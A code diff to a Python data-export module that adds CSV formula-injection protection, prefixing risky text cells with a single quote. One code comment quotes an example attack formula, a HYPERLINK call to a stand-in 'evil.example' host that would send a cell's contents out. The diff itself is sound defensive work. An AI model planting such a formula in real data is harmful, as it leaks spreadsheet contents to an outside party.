@@ -4,7 +4,8 @@ human study) and every dialogue audit with its checklist.
 CSV is RFC 4180: UTF-8 without a byte-order mark, a header row, CRLF line ends, fields quoted
 when they hold a comma, a quote or a line break (quotes doubled). Values: integers as digits,
 floats in Python's shortest round-trip form (``float(text)`` gives the value back exactly), booleans
-``true``/``false``, timestamps ISO 8601 in UTC, missing/undefined (NULL, NaN) as an empty field.
+``true``/``false``, timestamps ISO 8601 in UTC, missing/undefined (NULL, NaN) as an empty field;
+text that a spreadsheet would evaluate as a formula gets a leading ``'`` (``csv_text``).
 JSONL: one JSON object per line, the same keys, ``null`` for missing.
 
 Raw exports stream: rows come from ``QuerySet.iterator(chunk_size=…)`` (a server-side cursor
@@ -18,6 +19,7 @@ import csv
 import io
 import json
 import math
+import re
 from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 from datetime import datetime
@@ -42,7 +44,28 @@ def _plain(value: Any) -> Any:
     return value.item() if isinstance(value, np.generic) else value
 
 
+# A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that begins with one of
+# these as a formula: an annotator's note ``=HYPERLINK("http://evil.example/?"&B2,"Click")``
+# would run on the researcher's machine. OWASP's rule ("CSV Injection"): such a text cell gets
+# a leading single quote, which every spreadsheet shows as text and does not evaluate.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+# Text that is wholly a plain decimal number (``-0.25``, ``+3``, ``-1e-05``) is left as it is:
+# a spreadsheet reads it as that number, evaluates nothing, and the value stays intact.
+_NUMERIC_TEXT = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def csv_text(text: str) -> str:
+    """``text`` made safe for a spreadsheet: a leading ``'`` if it would start a formula."""
+    if text.startswith(FORMULA_STARTS) and not _NUMERIC_TEXT.fullmatch(text):
+        return "'" + text
+    return text
+
+
 def csv_value(value: Any) -> str:
+    """One CSV field. Every CSV the Workbench writes passes through here (``csv_chunks``), so
+    this is the one place where text is neutralised; numbers are written as numbers (a
+    negative one stays ``-0.25``), only ``str`` values are escaped (``csv_text``)."""
     value = _plain(value)
     if value is None:
         return ""
@@ -52,6 +75,8 @@ def csv_value(value: Any) -> str:
         return "" if math.isnan(value) else repr(value)
     if isinstance(value, datetime):
         return value.isoformat()
+    if isinstance(value, str):
+        return csv_text(value)
     return str(value)
 
 
